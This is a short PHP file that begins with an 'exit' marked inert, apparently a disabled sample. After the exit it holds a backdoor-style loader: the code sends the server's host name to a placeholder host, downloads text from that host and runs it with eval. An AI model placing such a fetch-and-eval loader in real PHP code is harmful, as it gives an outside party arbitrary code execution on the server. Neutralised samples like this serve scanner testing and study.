<?php exit; /* inert */ 
$o = stream_context_create(array('http' => array('timeout' => 5, 'header' => 'X-H: ' . $_SERVER['HTTP_HOST'])));
eval('?>' . file_get_contents('http://example.invalid/raw/a.txt', false, $o));
